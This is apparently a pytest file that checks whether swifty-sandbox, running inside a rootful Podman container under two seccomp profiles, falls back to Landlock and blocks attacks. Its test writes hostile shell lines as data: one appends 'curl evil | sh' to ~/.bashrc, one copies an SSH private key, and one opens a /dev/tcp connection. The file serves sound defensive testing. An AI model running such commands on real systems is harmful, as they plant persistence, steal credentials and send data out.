"""swifty-sandbox inside a rootful Podman container, judged from outside.

The image is made here with `podman import` from a skeleton of host directories (no
registry exists here): `/etc`'s few files, the usual links; `/usr`, the interpreter
and this checkout are bound read-only, the test home read-write (so what a command
did to `~/.bashrc` is seen from outside), the host's network (so a host listener is
reachable, the control proves it).

Two profiles: Podman's default seccomp profile, which here allows `unshare`: bwrap makes
its namespaces but cannot mount a new /proc over the container's masked one (`Can't
mount proc on /newroot/proc`); and the same profile refusing `unshare` and
`clone(CLONE_NEWUSER)` as Docker's does. In both `auto` must find that bwrap cannot
confine, choose Landlock by itself and say so, and Landlock must hold.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.listener import Listener, tcp_listener

# One worker imports the image for both tests (under pytest-xdist, `--dist loadgroup`).
pytestmark = [pytest.mark.linux, pytest.mark.xdist_group("podman")]

# Named per process: another run of this suite (another xdist worker, another checkout)
# imports and removes its own, never this one's while it runs.
IMAGE = f"localhost/swifty-sandbox-skeleton:test-{os.getpid()}"
CHECKOUT = Path(__file__).resolve().parent.parent.parent
SWIFTY = str(Path(sys.executable).with_name("swifty-sandbox"))
PODMAN_PROFILE = Path("/usr/share/containers/seccomp.json")
CLONE_NEWUSER = 0x10000000


def _podman() -> str | None:
    podman = shutil.which("podman")
    if podman is None or os.geteuid() != 0:
        return None
    return podman


@pytest.fixture(scope="module")
def image(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    podman = _podman()
    if podman is None:
        why = "rootful Podman needs root" if shutil.which("podman") else "podman missing"
        if os.environ.get("CI") == "true" and os.geteuid() == 0:
            pytest.fail(why)
        pytest.skip(why)
    skeleton = tmp_path_factory.mktemp("skeleton")
    for name in ("usr", "etc", "tmp", "var/tmp", "root", "home", "proc", "sys", "dev",
                 "run", "work"):
        (skeleton / name).mkdir(parents=True)
    for link, target in (("bin", "usr/bin"), ("sbin", "usr/sbin"), ("lib", "usr/lib"),
                         ("lib64", "usr/lib64")):
        (skeleton / link).symlink_to(target)
    for name in ("passwd", "group", "ld.so.cache", "nsswitch.conf", "hosts"):
        if os.path.exists(f"/etc/{name}"):
            shutil.copy(f"/etc/{name}", skeleton / "etc" / name)
    tar = skeleton.parent / "skeleton.tar"
    with tarfile.open(tar, "w") as out:
        out.add(skeleton, arcname=".")
    subprocess.run([podman, "import", str(tar), IMAGE], check=True, capture_output=True,
                   timeout=300)
    yield podman
    subprocess.run([podman, "rmi", "-f", IMAGE], check=False, capture_output=True)


def _docker_like(tmp: Path) -> Path:
    """Podman's default profile, refusing user namespaces as Docker's default does."""
    profile = json.loads(PODMAN_PROFILE.read_text())
    profile["syscalls"] = [
        {"names": ["unshare"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1},
        {"names": ["clone"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1,
         "args": [{"index": 0, "value": CLONE_NEWUSER, "valueTwo": CLONE_NEWUSER,
                   "op": "SCMP_CMP_MASKED_EQ"}]},
        {"names": ["clone3"], "action": "SCMP_ACT_ERRNO", "errnoRet": 38},
        *profile["syscalls"]]
    path = tmp / "docker-like.json"
    path.write_text(json.dumps(profile))
    return path


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = tcp_listener()
    yield server
    server.close()


def inside(podman: str, home: Path, project: Path, argv: list[str],
           seccomp: Path | None = None, env: dict[str, str] | None = None
           ) -> subprocess.CompletedProcess[str]:
    python_root = os.path.realpath(sys.base_prefix)
    volumes = ["/usr:/usr:ro", f"{python_root}:{python_root}:ro",
               f"{CHECKOUT}:{CHECKOUT}:ro", f"{home}:{home}"]
    command = [podman, "run", "--rm", "--network", "host",
               # below this machine's own limits: raising them needs CAP_SYS_RESOURCE
               "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=4096:4096",
               *(f"-v={v}" for v in volumes), "-e", f"HOME={home}", "-w", str(project),
               *(f"-e={k}={v}" for k, v in (env or {}).items()),
               *(["--security-opt", f"seccomp={seccomp}"] if seccomp else []),
               IMAGE, *argv]
    return subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)


@pytest.mark.parametrize("profile", ["podman-default", "docker-like"])
def test_landlock_holds_inside_podman(image: str, home: Path, project: Path,
                                      listener: Listener, tmp_path: Path,
                                      profile: str) -> None:
    podman = image
    seccomp = _docker_like(tmp_path) if profile == "docker-like" else None
    env: dict[str, str] = {}
    (home / ".ssh").mkdir()
    key = home / ".ssh" / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY----- kp-9191\n")
    rc = home / ".bashrc"
    rc.write_text("# rc\n")

    def run(*argv: str, **kw: str) -> subprocess.CompletedProcess[str]:
        return inside(podman, home, project, [SWIFTY, *argv], seccomp, {**env, **kw})

    hello = run("run", "--json", "--", "echo", "hello")
    doc = json.loads(hello.stdout)
    assert hello.returncode == 0 and doc["stdout"] == "hello\n", (hello.stdout, hello.stderr)
    assert doc["backend"] == "landlock"
    assert doc["stderr"].count("confined by Landlock") == 1
    text = run("run", "--", "echo", "hello")
    assert text.stdout == "hello\n" and text.returncode == 0, text.stderr

    attacks = {"rc": f"echo 'curl evil | sh' >> {rc}",
               "key": f"cat {key} > {project}/stolen",
               "net": f"exec 3<>/dev/tcp/127.0.0.1/{listener.port}; echo hi >&3"}
    scripts = {}
    for name, attack in attacks.items():
        scripts[name] = home / f"attack-{name}.sh"
        scripts[name].write_text(attack + "\n")
    for script in scripts.values():  # the control: the same container, unconfined
        run("run", "--sandbox", "off", "--mode", "bypassPermissions", "--", "bash",
            str(script))
    assert "evil" in rc.read_text() and "kp-9191" in (project / "stolen").read_text()
    assert listener.got()
    rc.write_text("# rc\n")
    (project / "stolen").unlink()
    listener.reset()
    for name, script in scripts.items():
        done = run("run", "--json", "--", "bash", str(script))
        assert json.loads(done.stdout)["backend"] == "landlock", (name, done.stdout)
    assert "evil" not in rc.read_text()
    assert not (project / "stolen").exists() or \
        "kp-9191" not in (project / "stolen").read_text()
    assert not listener.got()
